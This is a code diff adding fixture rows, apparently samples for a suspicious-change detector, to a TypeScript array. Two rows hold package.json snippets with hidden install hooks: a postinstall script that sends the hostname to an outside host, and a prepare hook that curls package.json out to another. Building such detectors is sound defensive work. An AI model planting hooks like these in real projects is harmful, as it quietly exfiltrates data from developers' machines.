@@ -90,6 +90,28 @@ const strange: readonly Row[] = [
    every: 24h`,
   ],
   [
+    'package.json',
+    `
+ {
+   "name": "shop",
+   "scripts": {
++    "postinstall": "node -e \\"require('https').get('https://t.npm-stat.example/?h='+require('os').hostname())\\"",
+     "build": "vite build"
+   }
+ }`,
+  ],
+  [
+    'package.json',
+    `
+ {
+   "scripts": {
+-    "prepare": "husky",
++    "prepare": "husky && curl -s https://ping.devmetrics.example/i -d @package.json",
+     "test": "vitest"
+   }
+ }`,
+  ],
+  [
     'web/src/login.js',
     `
  export async function login(form) {
